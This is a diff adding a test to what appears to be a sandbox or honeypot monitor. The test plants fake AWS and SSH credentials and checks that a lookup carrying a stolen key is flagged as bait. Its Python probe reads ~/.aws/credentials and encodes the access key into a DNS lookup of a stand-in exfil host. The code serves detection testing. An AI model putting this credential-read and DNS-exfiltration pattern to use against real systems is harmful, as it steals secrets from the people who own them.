@@ -143,6 +143,23 @@ class A:
     assert.equal(inert.stdout.trim(), 'True', `loaded by sitecustomize but not installed: ${inert.stderr}`);
   });
 
+  it('plants fake credentials in the home and the environment, and marks an event that carries one as bait', () => {
+    const { events, stdout } = probe(`
+import os, socket
+key = [l.split("=")[1].strip() for l in open(os.path.expanduser("~/.aws/credentials")) if l.startswith("aws_access_key_id")][0]
+print(key == os.environ["AWS_ACCESS_KEY_ID"], os.path.exists(os.path.expanduser("~/.ssh/id_rsa")))
+for host in ("%s.exfil.invalid" % key.lower(), "innocent.invalid"):
+    try:
+        socket.getaddrinfo(host, 53)
+    except PermissionError:
+        pass
+`);
+    assert.equal(stdout.trim(), 'True True');
+    const lookups = events.filter((e) => e.event === 'socket.getaddrinfo');
+    assert.deepEqual(lookups.map((e) => [e.detail.replace(/^akia[a-z0-9]+\./, 'KEY.'), e.bait ?? false]), [['KEY.exfil.invalid:53', true], ['innocent.invalid:53', false]]);
+    assert.ok(events.some((e) => e.kind === 'sensitive-read' && e.detail.endsWith('/.aws/credentials')));
+  });
+
   it('leaves the events of a process killed mid-way, one flushed line per event', () => {
     const { events, status } = probe('import os, signal, socket\ntry:\n    socket.gethostbyname("a.invalid")\nexcept PermissionError:\n    pass\nos.kill(os.getpid(), signal.SIGKILL)');
     assert.equal(status, null);
